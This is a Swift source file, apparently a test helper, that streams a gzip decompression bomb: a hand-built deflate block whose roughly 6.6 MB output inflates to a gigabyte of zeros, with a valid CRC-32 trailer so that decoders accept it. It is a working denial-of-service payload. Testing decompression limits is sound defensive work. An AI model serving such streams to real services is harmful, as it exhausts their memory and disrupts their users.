import NIOCore

/// A gzip stream of `inflatedSize` zero bytes, produced a piece at a time: one fixed-Huffman
/// deflate block of a literal 0 followed by (length 258, distance 1) matches, 13 bits each, so
/// 1 GiB inflated is about 6.6 MB on the wire and nothing large is ever held in memory.
struct GzipBomb: Sendable {
    let inflatedSize: Int64
    private var stage = Stage.header
    private var matchesLeft: Int64 = 0
    private var literalsLeft: Int64 = 0
    private var bits: UInt64 = 0
    private var bitCount = 0

    private enum Stage: Sendable { case header, block, trailer, done }

    init(inflatedSize: Int64) {
        self.inflatedSize = max(1, inflatedSize)
        let afterFirstLiteral = self.inflatedSize - 1
        matchesLeft = afterFirstLiteral / 258
        literalsLeft = afterFirstLiteral % 258
    }

    /// The next piece of the stream (about `budget` bytes), or nil once the trailer is out.
    mutating func next(budget: Int = 64 << 10) -> ByteBuffer? {
        var out = ByteBufferAllocator().buffer(capacity: budget + 16)
        switch stage {
        case .done:
            return nil
        case .header:
            // Magic, deflate, no flags, no time, no extra flags, unknown OS.
            out.writeBytes([0x1F, 0x8B, 0x08, 0x00, 0, 0, 0, 0, 0x00, 0xFF])
            put(1, 1)                    // BFINAL: the only block
            put(1, 2)                    // BTYPE 01: fixed Huffman codes
            putCode(0x30, 8)             // literal 0
            stage = .block
        case .block:
            while out.readableBytes < budget, matchesLeft > 0 {
                putCode(0xC5, 8)         // length symbol 285 = 258, no extra bits
                putCode(0, 5)            // distance symbol 0 = 1, no extra bits
                matchesLeft -= 1
                drain(into: &out)
            }
            if matchesLeft == 0 {
                while literalsLeft > 0 { putCode(0x30, 8); literalsLeft -= 1; drain(into: &out) }
                putCode(0, 7)            // end of block
                drain(into: &out)
                if bitCount > 0 { put(0, 8 - bitCount) }   // pad the last byte
                drain(into: &out)
                stage = .trailer
            }
        case .trailer:
            out.writeInteger(GzipBomb.crc32OfZeros(inflatedSize), endianness: .little)
            out.writeInteger(UInt32(truncatingIfNeeded: inflatedSize), endianness: .little)
            stage = .done
        }
        drain(into: &out)
        return out
    }

    /// Appends `count` bits of `value`, least significant first (deflate's bit order).
    private mutating func put(_ value: UInt32, _ count: Int) {
        bits |= UInt64(value) << UInt64(bitCount)
        bitCount += count
    }

    /// Appends a Huffman code, which deflate packs most significant bit first.
    private mutating func putCode(_ code: UInt32, _ length: Int) {
        var reversed: UInt32 = 0
        for i in 0..<length where code & (1 << UInt32(i)) != 0 { reversed |= 1 << UInt32(length - 1 - i) }
        put(reversed, length)
    }

    private mutating func drain(into out: inout ByteBuffer) {
        while bitCount >= 8 {
            out.writeInteger(UInt8(truncatingIfNeeded: bits))
            bits >>= 8
            bitCount -= 8
        }
    }

    // MARK: CRC-32 of a run of zeros, without running over it (zlib's crc32_combine)

    /// CRC-32 of `count` zero bytes, by doubling: log(count) combinations instead of `count` steps.
    static func crc32OfZeros(_ count: Int64) -> UInt32 {
        var one = CRC32()
        one.update([UInt8(0)])
        var power = one.value          // CRC of 2^k zeros
        var powerLength: Int64 = 1
        var result: UInt32 = 0         // CRC of the empty string
        var remaining = count
        while remaining > 0 {
            if remaining & 1 != 0 { result = combine(result, power, length: powerLength) }
            remaining >>= 1
            if remaining > 0 {
                power = combine(power, power, length: powerLength)
                powerLength *= 2
            }
        }
        return result
    }

    /// CRC-32 of A followed by B, from CRC(A), CRC(B) and B's length.
    static func combine(_ crcA: UInt32, _ crcB: UInt32, length: Int64) -> UInt32 {
        guard length > 0 else { return crcA }
        var odd = [UInt32](repeating: 0, count: 32)
        odd[0] = 0xEDB8_8320
        var row: UInt32 = 1
        for n in 1..<32 { odd[n] = row; row <<= 1 }
        var even = square(odd)
        odd = square(even)
        var crc = crcA
        var len = length
        repeat {
            even = square(odd)
            if len & 1 != 0 { crc = times(even, crc) }
            len >>= 1
            if len == 0 { break }
            odd = square(even)
            if len & 1 != 0 { crc = times(odd, crc) }
            len >>= 1
        } while len != 0
        return crc ^ crcB
    }

    private static func times(_ matrix: [UInt32], _ vector: UInt32) -> UInt32 {
        var sum: UInt32 = 0
        var v = vector
        var i = 0
        while v != 0 {
            if v & 1 != 0 { sum ^= matrix[i] }
            v >>= 1
            i += 1
        }
        return sum
    }

    private static func square(_ matrix: [UInt32]) -> [UInt32] { (0..<32).map { times(matrix, matrix[$0]) } }
}
